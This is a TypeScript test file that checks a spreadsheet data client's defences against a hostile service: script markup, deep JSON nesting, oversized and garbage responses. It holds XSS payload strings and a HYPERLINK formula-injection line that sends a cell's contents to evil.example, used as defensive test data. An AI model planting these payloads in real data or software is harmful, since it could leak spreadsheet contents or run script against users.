// A hostile (or broken) service: markup and formula text in every field, huge bodies,
// deeply nested JSON. PCD must keep such text as inert data, fail with a protocol error
// naming the cause, and neither crash nor exhaust memory. (The task pane's rendering of a
// hostile catalog is covered in the browser: test/e2e/taskpane.test.ts, "a hostile catalog
// is shown as text: nothing injected, nothing run".)
import type { Engine } from "../../src/core/engine-api";
import type { FetchLike } from "../../src/core/environment";
import { createEngine } from "../../src/core/engine";
import { MemoryStorage } from "../../src/core/storage";
import { runWorkbook } from "../../src/headless";
import { FaultLab } from "../resilience/support/fault-lab";

const START = "2026-11-10T18:00:00Z";
const MARKUP = `<img src=x onerror="alert(1)"><script>alert(2)</script>`;
const INJECTION = `=HYPERLINK("http://evil.example/?"&A1,"click")`;

let lab: FaultLab;

beforeAll(async () => {
  lab = await FaultLab.start(START);
});

afterAll(async () => {
  await lab?.close();
});

type Rewrite = (url: string, response: Response) => Promise<Response>;

/** An engine whose service answers come from the emulator, rewritten by the test. */
async function engineBehind(rewrite: Rewrite): Promise<Engine> {
  const fetch: FetchLike = async (input, init) => rewrite(input, await lab.fetch(input, init));
  const engine = createEngine(
    { fetch, storage: new MemoryStorage(), clock: { now: lab.now } },
    {
      settings: { baseUrl: lab.emulator.url, authUrl: lab.emulator.url },
      batchWindowMs: 5,
      retry: { maxRetries: 0 },
    },
  );
  await engine.ready();
  await engine.signIn(lab.emulator.username, lab.emulator.password);
  return engine;
}

function isCatalog(url: string): boolean {
  return /\/v1\/export\/series$/.test(new URL(url).pathname);
}

/** A body streamed in 1 MB chunks, counting what the client pulled. */
function hugeBody(totalBytes: number, pulled: { bytes: number }): ReadableStream<Uint8Array> {
  const chunk = new TextEncoder().encode(`[${"9,".repeat(512 * 1024 - 1)}`.slice(0, 1024 * 1024));
  return new ReadableStream<Uint8Array>({
    pull(controller) {
      if (pulled.bytes >= totalBytes) {
        controller.close();
        return;
      }
      pulled.bytes += chunk.byteLength;
      controller.enqueue(chunk);
    },
  });
}

test("markup and formula text in every text field stay inert text in cells; codes that are not codes are refused", async () => {
  const engine = await engineBehind(async (url, response) => {
    if (!isCatalog(url) || !url.includes("energy_price")) return response;
    const records = (await response.json()) as Array<Record<string, unknown>>;
    const hostile = records.map((record, index) => {
      const copy: Record<string, unknown> = {};
      for (const [field, value] of Object.entries(record)) {
        const keep = ["code", "updated_at", "last_available_final", "default_currency", "default_unit"];
        copy[field] = typeof value === "string" && !keep.includes(field) ? `${MARKUP}${INJECTION}` : value;
      }
      // One record whose code itself is markup.
      if (index === 0) copy.code = MARKUP;
      return copy;
    });
    return new Response(JSON.stringify(hostile), {
      status: 200,
      headers: { "content-type": "application/json" },
    });
  });
  const catalog = await engine.catalog("energy_price");
  expect(catalog.length).toBeGreaterThan(10);
  expect(catalog.some((info) => info.code === MARKUP)).toBe(false);
  const info = catalog[1]!;
  const report = await runWorkbook({
    engine,
    formulas: [`=PCD.INFO("${info.code}","assessment")`, `=PCD.INFO("${info.code}","commodity")`],
    timeoutMs: 30_000,
    log: () => undefined,
  });
  // Cells receive the text as a value: Excel does not evaluate a function's text result.
  expect(
    report.passes[0]!.results.map((result) => ("value" in result ? result.value : result.error)),
  ).toEqual([`${MARKUP}${INJECTION}`, `${MARKUP}${INJECTION}`]);
  const hits = await engine.search("alert", { product: "energy_price" });
  expect(hits.every((hit) => hit.info.assessment === `${MARKUP}${INJECTION}`)).toBe(true);
});

test("deeply nested JSON for a catalog is refused without a crash; the cached catalog stays", async () => {
  const depth = 200_000;
  let deep = false;
  const engine = await engineBehind(async (url, response) =>
    deep && isCatalog(url) && url.includes("commodity_price")
      ? new Response("[".repeat(depth) + "]".repeat(depth), { status: 200 })
      : response,
  );
  const good = await engine.catalog("commodity_price");
  deep = true;
  const summary = await engine.refreshAll();
  expect(summary.failures.map((failure) => failure.message).join(" ")).not.toMatch(/stack|RangeError/i);
  expect(await engine.catalog("commodity_price")).toEqual(good);
});

test("a deeply nested error body still yields a message naming the HTTP status", async () => {
  const depth = 200_000;
  const engine = await engineBehind(async (url, response) =>
    isCatalog(url) && url.includes("industry_economics")
      ? new Response(`{"message":${"[".repeat(depth)}"x"${"]".repeat(depth)}}`, { status: 500 })
      : response,
  );
  await expect(engine.catalog("industry_economics")).rejects.toMatchObject({
    kind: "server",
    message: expect.stringMatching(/HTTP 500/),
  });
});

test("a huge answer that is not JSON is a protocol error naming its size", async () => {
  const pulled = { bytes: 0 };
  const engine = await engineBehind(async (url, response) =>
    isCatalog(url) && url.includes("energy_price")
      ? new Response(hugeBody(40 * 1024 * 1024, pulled), { status: 200 })
      : response,
  );
  await expect(engine.catalog("energy_price")).rejects.toMatchObject({
    kind: "protocol",
    message: expect.stringMatching(/Series Info answer was not valid JSON|too large/),
  });
});

// A-11 (RELIABILITY.md): a hostile or broken service cannot make the client hold
// hundreds of MB: answers are read as a stream and abandoned past the cap (16 MB, far above
// the ~1 MB of a full catalog) with a protocol error.
test("A-11: the client stops reading an answer beyond a size cap", async () => {
  const pulled = { bytes: 0 };
  const engine = await engineBehind(async (url, response) =>
    isCatalog(url) && url.includes("energy_price")
      ? new Response(hugeBody(64 * 1024 * 1024, pulled), { status: 200 })
      : response,
  );
  await expect(engine.catalog("energy_price")).rejects.toMatchObject({ kind: "protocol" });
  expect(pulled.bytes).toBeLessThanOrEqual(33 * 1024 * 1024);
});

test("a garbage catalog after a good one: refresh-all says the series were not checked, cells keep their values", async () => {
  let garbage = false;
  const engine = await engineBehind(async (url, response) =>
    garbage && isCatalog(url)
      ? new Response(`[${"[1],".repeat(50)}{"code":"<b>1-2-3</b>"}]`, { status: 200 })
      : response,
  );
  const [info] = await engine.catalog("energy_price");
  const formulas = [`=PCD.VALUE("${info!.code}","2024-03")`];
  const before = await runWorkbook({ engine, formulas, timeoutMs: 30_000, log: () => undefined });
  garbage = true;
  // Nothing is spent and nothing is called up to date: the key is reported as not checked (F-22).
  expect(await engine.refreshAll()).toMatchObject({
    failed: 1,
    requestsUsed: 0,
    failures: [
      expect.objectContaining({
        message: expect.stringMatching(/^Series Info of energy_price could not be refreshed \(/),
      }),
    ],
  });
  const after = await runWorkbook({ engine, formulas, timeoutMs: 30_000, log: () => undefined });
  expect(after.passes[0]!.results).toEqual(before.passes[0]!.results);
  expect(await engine.catalog("energy_price")).toContainEqual(info);
});
